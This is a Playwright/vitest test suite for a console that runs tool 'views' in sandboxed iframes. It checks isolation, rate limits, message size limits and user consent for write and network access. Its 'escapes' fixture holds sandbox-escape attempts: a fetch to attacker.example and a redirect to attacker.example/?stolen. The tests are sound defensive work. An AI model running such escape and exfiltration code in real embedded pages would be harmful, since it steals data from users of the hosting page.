import { createServer, tool, view } from '@causeway/engine'
import type { Server } from '@causeway/engine'
import type { Browser, FrameLocator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { closeSharedBrowser, needsBrowser, open, sharedBrowser } from './browser.ts'
import { serveConsole } from './served.ts'
import type { Served } from './served.ts'

// The least that a view has to say: it asks, and shows what comes back.
const PRELUDE = `<!doctype html><meta charset="utf-8"><pre id="log"></pre><script>
const log = words => { document.getElementById('log').textContent += words + '\\n' }
const send = message => parent.postMessage({ jsonrpc: '2.0', ...message }, '*')
const call = (id, name, args = {}) => send({ id, method: 'tools/call', params: { name, arguments: args } })
addEventListener('message', ({ data }) => {
  if (data.id === 0) send({ method: 'ui/notifications/initialized', params: {} })
  else if (data.method === 'ui/notifications/tool-input') log('input ' + JSON.stringify(data.params.arguments))
  else if (data.method === 'ui/notifications/tool-result') { log('result ' + data.params.content[0].text); start() }
  else if (data.id !== undefined) log(data.id + ' ' + (data.error ? 'refused ' + data.error.message : data.result.content[0].text))
})
send({ id: 0, method: 'ui/initialize', params: { protocolVersion: '2026-01-26', appInfo: { name: 'v', version: '1' }, appCapabilities: {} } })
`

const BODIES = {
  calls: `const start = () => { call(1, 'rows'); call(2, 'change'); call(3, 'for_model'); send({ id: 4, method: 'sampling/createMessage', params: {} }) }`,
  floods: `const start = () => { for (let i = 1; i < 5000; i++) call(i, 'rows') }`,
  many: `const start = () => { for (let i = 1; i <= 40; i++) call(i, 'slow') }`,
  large: `const start = () => { call(1, 'rows', { words: 'x'.repeat(2_000_000) }); call(2, 'rows') }`,
  escapes: `const start = async () => {
    const tries = {
      parent: () => String(parent.document),
      storage: () => String(localStorage.length),
      cookie: () => { document.cookie = 'a=1'; return document.cookie },
      top: () => { top.location.href = 'about:blank'; return 'asked' },
      popup: () => String(window.open('about:blank')),
    }
    for (const [name, attempt] of Object.entries(tries)) {
      try { log(name + ' ' + attempt()) } catch (error) { log(name + ' ' + error.name) }
    }
    log('origin ' + self.origin)
    await fetch('https://attacker.example/').then(() => log('fetched'), error => log('fetch ' + error.name))
    onclick = () => { location.href = 'https://attacker.example/?stolen' }
  }`,
} as const

function server(): Server {
  const made = createServer({ name: 'apps', version: '1', log: false })
  for (const [name, body] of Object.entries(BODIES)) {
    const page = view({ uri: `ui://test/${name}`, name: `view-${name}` }, `${PRELUDE}${body}</script>`)
    made.add(
      page,
      tool({ name, readOnly: true, view: page }, () => `told ${name}`),
    )
  }
  const networked = view(
    { uri: 'ui://test/networked', name: 'networked', csp: { connectDomains: ['https://api.example.com'] } },
    `${PRELUDE}const start = () => {}</script>`,
  )
  let running = 0
  let most = 0
  return made.add(
    networked,
    tool({ name: 'networked', readOnly: true, view: networked }, () => 'told'),
    tool({ name: 'rows', readOnly: true, visibility: ['app'] }, () => 'all rows'),
    tool({ name: 'change', visibility: ['app'] }, () => 'changed'),
    tool({ name: 'for_model', readOnly: true, visibility: ['model'] }, () => 'for the model'),
    tool({ name: 'slow', readOnly: true, visibility: ['app'] }, async () => {
      most = Math.max(most, ++running)
      await new Promise(resolve => setTimeout(resolve, 20))
      running -= 1
      return `at most ${most} at once`
    }),
  )
}

describe('the console as a host of views', needsBrowser, () => {
  let browser: Browser
  let served: Served

  beforeAll(async () => {
    browser = await sharedBrowser()
    served = await serveConsole(server())
  })
  afterAll(async () => {
    await served?.close()
    await closeSharedBrowser()
  })

  async function run(name: string, act: (page: Page, frame: FrameLocator) => Promise<void>): Promise<string[]> {
    const { page, foreign } = await open(browser, `${served.url}/#/tools/${name}`, {})
    try {
      await page.getByRole('button', { name: 'Run', exact: true }).click()
      await act(page, page.frameLocator('iframe.view'))
      expect(page.url()).toContain(`#/tools/${name}`)
      return foreign
    } finally {
      await page.context().close()
    }
  }

  test('a view gets the call it stands beside, and calls tools as the user of the page; what writes is asked first', () =>
    run('calls', async (page, frame) => {
      await frame.getByText('result told calls').waitFor()
      await frame.getByText('1 all rows').waitFor()
      await frame.getByText(/3 refused The tool 'for_model' is not for views/).waitFor()
      await frame.getByText(/4 refused This host does not have sampling/).waitFor()
      await page.getByText('It wants to call the tool “change”').waitFor()
      expect(await frame.locator('#log').innerText()).not.toContain('2 changed')
      await page.getByRole('button', { name: /accept|send|submit/i }).click()
      await frame.getByText('2 changed').waitFor()
    }).then(foreign => expect(foreign).toEqual([])))

  test('a view that floods its host is stopped, and the page goes on', () =>
    run('floods', async page => {
      await page.getByText(/The view was stopped. It sent more than \d+ messages/).waitFor()
      expect(await page.locator('iframe.view').count()).toBe(0)
      await page.getByRole('button', { name: 'Text', exact: true }).click()
      await page.getByRole('region', { name: 'Result' }).getByText('told floods').waitFor()
    }).then(foreign => expect(foreign).toEqual([])))

  test('of many calls few run at once, and what finds the line full is refused', () =>
    run('many', async (_, frame) => {
      await frame
        .getByText(/refused More than \d+ calls at once/)
        .first()
        .waitFor()
      await expect.poll(async () => (await frame.locator('#log').innerText()).match(/at once$/gm)?.length).toBe(40)
      const most = (await frame.locator('#log').innerText()).matchAll(/at most (\d+) at once/g)
      expect(Math.max(...[...most].map(([, count]) => Number(count)))).toBeLessThanOrEqual(4)
    }).then(foreign => expect(foreign).toEqual([])))

  test('a message that is too large is refused, and the next one served', () =>
    run('large', async (_, frame) => {
      await frame.getByText(/1 refused A message may have/).waitFor()
      await frame.getByText('2 all rows').waitFor()
    }).then(foreign => expect(foreign).toEqual([])))

  test('a view reaches neither the page nor the network, and its frame goes nowhere else', () =>
    run('escapes', async (page, frame) => {
      await frame.getByText('fetch TypeError').waitFor()
      const lines = (await frame.locator('#log').innerText()).split('\n')
      for (const refused of [
        'parent SecurityError',
        'storage SecurityError',
        'cookie SecurityError',
        'popup null',
        'origin null',
      ])
        expect(lines).toContain(refused)
      await frame.locator('#log').click()
      await expect.poll(() => page.frames().some(one => one.url().startsWith('chrome-error:'))).toBe(true)
      expect(await page.evaluate('document.cookie')).toBe('')
    }).then(foreign => expect(foreign).toEqual([])))

  test('a view that wants the network is shown when the person agrees', () =>
    run('networked', async (page, frame) => {
      await page.getByText('could send there what it is shown: https://api.example.com').waitFor()
      expect(await page.locator('iframe.view').count()).toBe(0)
      await page.getByRole('button', { name: 'Show it' }).click()
      await frame.getByText('result told').waitFor()
    }).then(foreign => expect(foreign).toEqual([])))
})
